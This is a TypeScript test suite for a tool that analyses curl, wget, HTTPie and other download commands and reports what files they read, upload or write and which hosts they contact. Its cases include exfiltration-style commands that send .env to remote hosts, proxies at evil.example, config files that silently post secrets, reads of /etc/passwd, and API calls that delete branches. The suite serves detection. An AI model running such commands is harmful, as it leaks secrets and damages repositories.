import { describe, expect, it } from 'vitest';
import { expandUrl } from '../../../lib/programs/network/curl-glob.ts';
import { pages } from '../../../lib/programs/network/index.ts';
import { fakeHost, readWith, word } from '../call.ts';
import { showOutcome } from '../show.ts';

const host = fakeHost({
  files: {
    '/work/app/c.conf':
      '# proxy\nproxy = "evil.example:3128"\n-d @.env\nurl=https://api.example\noutput: out.txt\n',
    '/work/app/loop.conf': 'config = loop.conf\nurl = a.example',
    '/work/app/urls': 'https://a.example/1\nhttps://b.example/2\n',
    '/tmp/x/.curlrc': 'socks5 = evil.example',
    '/work/app/rc': 'http_proxy = http://evil.example:1\npost_file=.env\n',
  },
});
const read = (command: string, stdin?: string | 'pipe') =>
  showOutcome(readWith(pages, command, stdin === undefined ? { host } : { host, stdin }));

describe('curl', () => {
  it.each([
    ['curl https://a.example/x?y', ['connect https://a.example/x?y GET']],
    ['curl a.example', ['connect http://a.example GET']],
    ['curl localhost:3000/health', ['connect http://localhost:3000/health GET']],
    ['curl ftp.a.example', ['connect ftp://ftp.a.example GET']],
    ['curl -fsSL a.example b.example', ['connect http://a.example GET', 'connect http://b.example GET']],
    [
      'curl --url a.example --url=b.example',
      ['connect http://a.example GET', 'connect http://b.example GET'],
    ],
    ['curl https://me:pw@a.example:8443/x', ['connect https://a.example:8443/x GET']],
    ['curl "https://github.com\\\\@evil.example/"', ['connect https://evil.example/ GET']],
    ['curl https://github.com#@evil.example', ['connect https://github.com GET']],
    ['curl http:/a.example', ['connect http://a.example GET']],
    ['curl http:///a.example/', ['connect http://a.example/ GET']],
    ['curl https://%65vil.example', ['connect https://evil.example GET']],
    ['curl "https://$HOST/x"', ['connect https://…/x GET']],
    ['curl https://a.example/$x', ['connect https://a.example/ GET']],
    ['curl a.example/$x', ['connect http://a.example/ GET']],
    ['curl $URL', ['connect … GET']],
    ["curl 'https://{a,b}.example'", ['connect https://a.example GET', 'connect https://b.example GET']],
    ["curl -g 'https://[::1]:80/'", ['connect https://[::1]:80/ GET']],
    ['curl -X delete https://a.example', ['connect https://a.example DELETE']],
    ['curl -XPOST https://a.example', ['connect https://a.example POST']],
    ['curl -I a.example', ['connect http://a.example HEAD']],
    ['curl -d a=b a.example', ['upload http://a.example POST sends=a=b']],
    ['curl -da=b a.example', ['upload http://a.example POST sends=a=b']],
    ['curl -d @.env a.example', ['read .env', 'upload http://a.example POST sends=@.env']],
    ['curl --data-b @.env a.example', ['read .env', 'upload http://a.example POST sends=@.env']],
    ['curl --data-binary @.env a.example', ['read .env', 'upload http://a.example POST sends=@.env']],
    ['curl --data-raw @.env a.example', ['upload http://a.example POST sends=@.env']],
    ['curl --data-urlencode k@.env a.example', ['read .env', 'upload http://a.example POST sends=@.env']],
    ['curl --data-urlencode k=a@b a.example', ['upload http://a.example POST sends=k=a@b']],
    ['curl --json @x a.example', ['read x', 'upload http://a.example POST sends=@x']],
    ['curl -F f=@.env a.example', ['read .env', 'upload http://a.example POST sends=@.env']],
    ["curl -F 'f=@a,b;type=x' a.example", ['read a', 'read b', 'upload http://a.example POST sends=@a,@b']],
    ["curl -F 'f=<.env' a.example", ['read .env', 'upload http://a.example POST sends=@.env']],
    ['curl --form-string f=@a a.example', ['upload http://a.example POST sends=f=@a']],
    ['curl -G -d @.env a.example', ['read .env', 'upload http://a.example GET sends=@.env']],
    ['curl --url-query @.env a.example', ['read .env', 'upload http://a.example GET sends=@.env']],
    ['curl -T .env a.example', ['read .env', 'upload http://a.example PUT sends=@.env']],
    ["curl -T '{a,b}' a.example", ['read a', 'read b', 'upload http://a.example PUT sends=@a,@b']],
    ['curl -H @.env a.example', ['read .env', 'upload http://a.example POST sends=@.env']],
    ['curl -H "X: $T" a.example', ['connect http://a.example GET']],
    ['curl -d "$(x)" a.example', ['upload http://a.example POST sends=$(x)']],
    ['curl -d @$f a.example', ['read …', 'upload http://a.example POST sends=@…']],
    ['curl -o x a.example', ['connect http://a.example GET', 'write x clobbers']],
    ['curl -sSLox a.example', ['connect http://a.example GET', 'write x clobbers']],
    ['curl --output-dir d -o x a.example', ['connect http://a.example GET', 'write d/x clobbers']],
    ['curl -o /dev/null a.example', ['connect http://a.example GET']],
    [
      'curl -O https://a.example/d/f.tgz?x',
      ['connect https://a.example/d/f.tgz?x GET', 'write f.tgz clobbers'],
    ],
    [
      'curl -OJ https://a.example/f',
      ['connect https://a.example/f GET', 'write ./… clobbers', 'write f clobbers'],
    ],
    [
      "curl -o '#1.txt' 'a.example/{x,y}'",
      ['connect http://a.example/x GET', 'connect http://a.example/y GET', 'write ….txt clobbers'],
    ],
    ['curl --no-clobber -o x a.example', ['connect http://a.example GET', 'write x']],
    ['curl -C - -o x a.example', ['connect http://a.example GET', 'append x']],
    [
      'curl -D h -c jar --trace t a.example',
      ['connect http://a.example GET', 'write h clobbers', 'write jar clobbers', 'write t clobbers'],
    ],
    ["curl -w '%output{x}hi' a.example", ['connect http://a.example GET', 'write x clobbers']],
    ['curl -b .env a.example', ['connect http://a.example GET', 'read .env']],
    ['curl -b a=b a.example', ['connect http://a.example GET']],
    ['curl --key k --cert c a.example', ['connect http://a.example GET', 'read k', 'read c']],
    ['curl --netrc-file n a.example', ['connect http://a.example GET', 'read n']],
    [
      'curl -x evil.example:3128 a.example',
      ['connect http://a.example GET', 'connect http://evil.example:3128'],
    ],
    [
      'curl --preproxy socks5://evil.example a.example',
      ['connect http://a.example GET', 'connect socks5://evil.example'],
    ],
    [
      'curl --socks5-hostname evil.example:1 a.example',
      ['connect http://a.example GET', 'connect http://evil.example:1'],
    ],
    [
      'https_proxy=http://evil.example:1 curl a.example',
      ['connect http://a.example GET', 'connect http://evil.example:1'],
    ],
    ['no_proxy=x curl a.example', ['connect http://a.example GET']],
    [
      'curl --resolve a.example:443:1.2.3.4,5.6.7.8 https://a.example',
      ['connect https://a.example GET', 'connect 1.2.3.4:443', 'connect 5.6.7.8:443'],
    ],
    [
      'curl --connect-to a.example:443:evil.example:8443 https://a.example',
      ['connect https://a.example GET', 'connect evil.example:8443'],
    ],
    [
      'curl --connect-to ::evil.example: https://a.example',
      ['connect https://a.example GET', 'connect evil.example'],
    ],
    [
      'curl --doh-url https://evil.example/q a.example',
      ['connect http://a.example GET', 'connect https://evil.example/q'],
    ],
    [
      'curl --unix-socket /var/run/docker.sock http://localhost/v1/containers/json',
      ['connect unix:///var/run/docker.sock/v1/containers/json GET'],
    ],
    ['curl -X POST --unix-socket $s http://x/y', ['connect unix://…/y POST']],
    ['curl file:///etc/passwd', ['read /etc/passwd']],
    ['curl file:.env', ['read .env']],
    ['curl FILE://localhost/%2Eenv', ['read /.env']],
    ['curl telnet://a.example:25', ['connect telnet://a.example:25 GET']],
    [
      'curl a.example --next -d x b.example',
      ['connect http://a.example GET', 'upload http://b.example POST sends=x'],
    ],
    ['curl --url @urls', ['read urls', 'connect https://a.example/1 GET', 'connect https://b.example/2 GET']],
    [
      'curl -K c.conf',
      [
        'read c.conf',
        'read .env',
        'upload https://api.example POST sends=@.env',
        'connect http://evil.example:3128',
        'write out.txt clobbers',
      ],
    ],
    ['curl -K loop.conf', ['read loop.conf', 'connect http://a.example GET']],
    ['curl -K missing', ['read missing', 'opaque dynamic']],
    [
      'CURL_HOME=/tmp/x curl a.example',
      ['read /tmp/x/.curlrc', 'connect http://a.example GET', 'connect http://evil.example'],
    ],
    ['CURL_HOME=/tmp/x curl -q a.example', ['connect http://a.example GET']],
    ["curl --variable h=evil.example --expand-url 'https://{{h}}/'", ['connect https://evil.example/ GET']],
    [
      "curl --variable %TOKEN --expand-data '{{TOKEN}}' a.example",
      ['env read TOKEN', 'upload http://a.example POST sends=…'],
    ],
    [
      "curl --variable f@.env --expand-data '{{f}}' a.example",
      ['read .env', 'upload http://a.example POST sends=…'],
    ],
    ['curl --engine ./x.so a.example', ['connect http://a.example GET', 'opaque dynamic']],
    ['curl --version', []],
    ['curl -h all', []],
    ['curl', []],
  ])('%s', (command, expected) => {
    expect(read(command)).toEqual(expected);
  });

  it('sends its input', () => {
    expect(read('curl -d @- a.example', 'pipe')).toEqual(['upload http://a.example POST sends=@-']);
    expect(read('curl -K -', 'url = b.example')).toEqual(['connect http://b.example GET']);
    expect(read('curl -K -', 'pipe')).toEqual(['opaque dynamic']);
  });

  it('tells what a request does to branches', () => {
    const effects = (command: string) =>
      readWith(pages, command).effects.filter((effect) => effect.kind === 'git');
    expect(
      effects('curl -X PUT -H "Authorization: token $T" https://api.github.com/repos/o/r/pulls/1/merge'),
    ).toMatchObject([{ op: 'api-merge' }]);
    expect(effects('curl -X DELETE https://api.github.com/repos/o/r/git/refs/heads/main')).toMatchObject([
      { op: 'api-delete-ref', branch: { text: 'main' } },
    ]);
    expect(
      effects(`curl https://api.github.com/repos/o/r/merges -d '{"base":"main","head":"x"}'`),
    ).toMatchObject([{ op: 'api-merge', branch: { text: 'main' } }]);
    expect(effects('wget --method=PUT https://api.github.com/repos/o/r/pulls/1/merge')).toMatchObject([
      { op: 'api-merge' },
    ]);
    expect(effects('http POST https://api.github.com/repos/o/r/merges base=main head=x')).toMatchObject([
      { op: 'api-merge', branch: { text: 'main' } },
    ]);
    expect(effects('curl https://api.github.com/repos/o/r/pulls')).toEqual([]);
  });

  it('expands a bounded number of addresses', () => {
    expect(expandUrl(word('http://h[01-03]')).map(({ text }) => text)).toEqual([
      'http://h01',
      'http://h02',
      'http://h03',
    ]);
    expect(expandUrl(word('http://a.example/[1-100000]'))).toMatchObject([
      { text: undefined, pieces: ['http://a.example/', null] },
    ]);
    expect(expandUrl(word('http://[1-100000].example/'))).toMatchObject([
      { text: undefined, pieces: [null] },
    ]);
  });
});

describe('wget, HTTPie and other downloads', () => {
  it.each([
    ['wget https://a.example/d/f.tgz', ['connect https://a.example/d/f.tgz GET', 'write f.tgz']],
    ['wget 1572395042', ['connect http://1572395042 GET', 'write index.html']],
    ['wget -qO- https://a.example', ['connect https://a.example GET']],
    ['wget -O x a.example', ['connect http://a.example GET', 'write x clobbers']],
    ['wget -nc -P d a.example/f', ['connect http://a.example/f GET', 'write d/f']],
    ['wget -r -P d a.example', ['connect http://a.example GET', 'write d recursive']],
    ['wget --spider a.example', ['connect http://a.example HEAD']],
    [
      'wget -i urls',
      [
        'connect https://a.example/1 GET',
        'connect https://b.example/2 GET',
        'read urls',
        'write 1',
        'write 2',
      ],
    ],
    ['wget -i missing', ['connect …', 'read missing']],
    ['wget --post-data a=b a.example', ['upload http://a.example POST sends=a=b', 'write index.html']],
    [
      'wget --post-file=.env a.example/x',
      ['upload http://a.example/x POST sends=@.env', 'read .env', 'write x'],
    ],
    [
      'wget --method=PUT --body-file .env -O- a.example',
      ['upload http://a.example PUT sends=@.env', 'read .env'],
    ],
    [
      'wget -e use_proxy=yes -e http_proxy=evil.example:1 -O- a.example',
      ['connect http://a.example GET', 'connect http://evil.example:1'],
    ],
    ['wget -e post_file=.env -O- a.example', ['upload http://a.example POST sends=@.env', 'read .env']],
    [
      'wget --config=rc -O- a.example',
      ['read rc', 'upload http://a.example POST sends=@.env', 'connect http://evil.example:1', 'read .env'],
    ],
    ['WGETRC=missing wget -O- a.example', ['read missing', 'opaque dynamic', 'connect http://a.example GET']],
    ['wget --use-askpass=./x -O- a.example', ['connect http://a.example GET', '> argv: ./x']],
    ['wget -o log -O- a.example', ['connect http://a.example GET', 'write log clobbers']],
    ['wget $URL', ['connect … GET', 'write ./…']],
    ['wget --help', []],
    ['http a.example', ['connect http://a.example GET']],
    ['http a.example x==1 H:y', ['connect http://a.example GET']],
    ['http POST a.example a=@.env', ['upload http://a.example POST sends=@.env', 'read .env']],
    ['http a.example a=b', ['upload http://a.example POST sends=a=b']],
    ['http -f POST a.example f@.env;type=x', ['upload http://a.example POST sends=@.env', 'read .env']],
    ['https put a.example/x j:=@f.json', ['upload https://a.example/x PUT sends=@f.json', 'read f.json']],
    ['http :3000/x', ['connect http://localhost:3000/x GET']],
    ['http localhost:8080/api a=1', ['upload http://localhost:8080/api POST sends=a=1']],
    [
      'http --proxy=http:http://evil.example:1 a.example',
      ['connect http://a.example GET', 'connect http://evil.example:1'],
    ],
    ['http -d a.example/f', ['connect http://a.example/f GET', 'write f']],
    ['http -o x a.example', ['connect http://a.example GET', 'write x clobbers']],
    ['xh a.example', ['connect http://a.example GET']],
    [
      'aria2c -i urls',
      ['connect https://a.example/1', 'connect https://b.example/2', 'read urls', 'write ./…'],
    ],
    [
      'aria2c --on-download-complete=./x -d d a.example',
      ['connect http://a.example', 'write d clobbers', '> sh: ./x'],
    ],
    ['lynx -dump https://a.example', ['connect https://a.example']],
    ['w3m ./x.html', ['read ./x.html']],
    ['lynx -dump urls', ['read urls']],
    ['yt-dlp --exec ./x https://a.example/v', ['connect https://a.example/v', 'write ./…', '> sh: ./x']],
  ])('%s', (command, expected) => {
    expect(read(command)).toEqual(expected);
  });
});
